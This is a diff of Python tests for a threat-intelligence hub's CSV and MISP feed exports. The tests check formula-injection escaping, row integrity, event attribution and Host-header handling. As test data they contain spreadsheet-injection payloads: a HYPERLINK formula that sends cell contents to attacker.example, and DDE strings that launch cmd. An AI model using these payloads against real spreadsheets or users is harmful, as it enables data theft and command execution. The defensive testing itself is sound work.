@@ -176,8 +176,30 @@ def test_injected_line_breaks_commas_quotes_and_hashes_do_not_make_lines_or_cell
                                            newline="")))
     assert len(rows) == 1
     assert rows[0]["value"] == "http://evil.example/a%27b%2C%22c"
-    assert rows[0]["campaign"] == 'Op "x",\n#y'
-    assert rows[0]["labels"] == 'a,b;c"d;#e\nf'
+    assert rows[0]["campaign"] == 'Op "x", #y'  # line breaks become spaces: one row per line
+    assert rows[0]["labels"] == 'a,b;c"d;#e f'
+
+
+def test_no_csv_cell_starts_a_formula_or_breaks_a_line(hub: Hub) -> None:
+    formula = indicator(pattern="[email-addr:value = '=1+2@evil-formula.example' OR "
+                                "domain-name:value = 'formula-test.example']",
+                        labels=['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+                                "a\r\nb", "line\u2028sep\u0085nel"],
+                        indicator_types=["@SUM(1+1)*cmd|' /C calc'!A0"])
+    campaign = {"type": "campaign", "spec_version": "2.1", "id": new_id("campaign"), "name": "-2+3+cmd|' /C calc'!A0",
+                "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
+    relationship = {"type": "relationship", "spec_version": "2.1", "id": new_id("relationship"),
+                    "relationship_type": "indicates", "source_ref": formula["id"], "target_ref": campaign["id"],
+                    "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z"}
+    publish(hub, [formula, campaign, relationship])
+    body = fetch(hub, "alice", f"{C_RW}/indicators.csv").data.decode()
+    assert len(body.split("\r\n")) == 3 and not any(c in body for c in "\u2028\u0085")  # header, one row, end
+    (row,) = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert row["value"] == "formula-test.example"  # the e-mail value that starts a formula is left out
+    for name in ("value", "type", "confidence", "valid_from", "valid_until", "indicator_types", "labels",
+                 "campaign", "tlp", "stix_id"):
+        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
+    assert row["labels"].startswith("'=HYPERLINK") and row["campaign"] == "'-2+3+cmd|' /C calc'!A0"
 
 
 def test_the_csv_is_rfc_4180_with_one_header_row(hub: Hub) -> None:
@@ -233,6 +255,42 @@ def test_the_misp_feed_loads_with_pymisp_as_the_feed_fetcher_reads_it(hub: Hub) 
     again = MISPEvent()
     again.load(fetch(hub, "alice", f"{C_RW}/misp/{report_id.split('--')[1]}.json").data.decode())
     assert again.attributes[0].uuid == event.attributes[0].uuid  # stable uuids
+
+
+def test_only_the_hubs_own_objects_are_hub_events_and_no_event_mixes_writers(hub: Hub) -> None:
+    """A member's report in a collection members write is the member's event (not vetted, not the hub's Orgc);
+    it cannot gather the hub's indicators, nor the hub's report a member's; the event's TLP tag is the most
+    restrictive of its report's and its attributes'."""
+    hub_identity = next(iter(hub.app.extensions[EXTENSION].exports.hub_identities))
+    vetted = domain("vetted.example", created_by_ref=hub_identity, object_marking_refs=[AMBER])
+    hub_report = {"type": "report", "spec_version": "2.1", "id": new_id("report"), "name": "Hub publication",
+                  "published": "2021-03-01T00:00:00Z", "object_refs": [vetted["id"]], "created_by_ref": hub_identity,
+                  "created": "2021-03-01T00:00:00.000Z", "modified": "2021-03-01T00:00:00.000Z"}
+    publish(hub, [vetted, hub_report], org="analyst")
+    own = domain("members-own.example")
+    claim = {"type": "report", "spec_version": "2.1", "id": new_id("report"),
+             "name": "Hub advisory: block these now (vetted by taxii-hub)", "published": "2021-03-02T00:00:00Z",
+             "object_refs": [own["id"], vetted["id"]], "created": "2021-03-02T00:00:00.000Z",
+             "modified": "2021-03-02T00:00:00.000Z"}
+    publish(hub, [own, claim])
+    manifest = json.loads(fetch(hub, "alice", f"{C_RW}/misp/manifest.json").data)
+    events = {u: json.loads(fetch(hub, "alice", f"{C_RW}/misp/{u}.json").data)["Event"] for u in manifest}
+    hub_event = events[hub_report["id"].split("--")[1]]
+    member_event = events[claim["id"].split("--")[1]]
+    assert hub_event["Orgc"]["name"] == "taxii-hub" and hub_event["analysis"] == 2
+    assert [a["value"] for a in hub_event["Attribute"]] == ["vetted.example"]
+    assert [t["name"] for t in hub_event["Tag"]] == ["tlp:amber"]  # from its attribute: the report has none
+    assert member_event["Orgc"]["name"] != "taxii-hub" and member_event["analysis"] == 0
+    assert [a["value"] for a in member_event["Attribute"]] == ["members-own.example"]
+    assert all(e["Orgc"]["name"] != "taxii-hub" for u, e in events.items() if u != hub_report["id"].split("--")[1])
+
+
+def test_a_feed_url_without_its_slash_is_a_json_404_never_a_redirect(hub: Hub) -> None:
+    response = hub.client().get(f"/hub/v1/feeds/{C_RW}", headers=hub.headers("alice", Accept="*/*",
+                                                                             Host="evil.example"))
+    assert response.status_code == 404 and response.headers["Content-Type"] == "application/json"
+    assert "Location" not in response.headers and b"evil.example" not in response.data
+    assert hub.client().get(f"/hub/v1/feeds/{C_RW}", headers={"Host": "evil.example"}).status_code == 401
 
 
 def test_an_unknown_feed_or_format_is_a_json_error(hub: Hub) -> None:
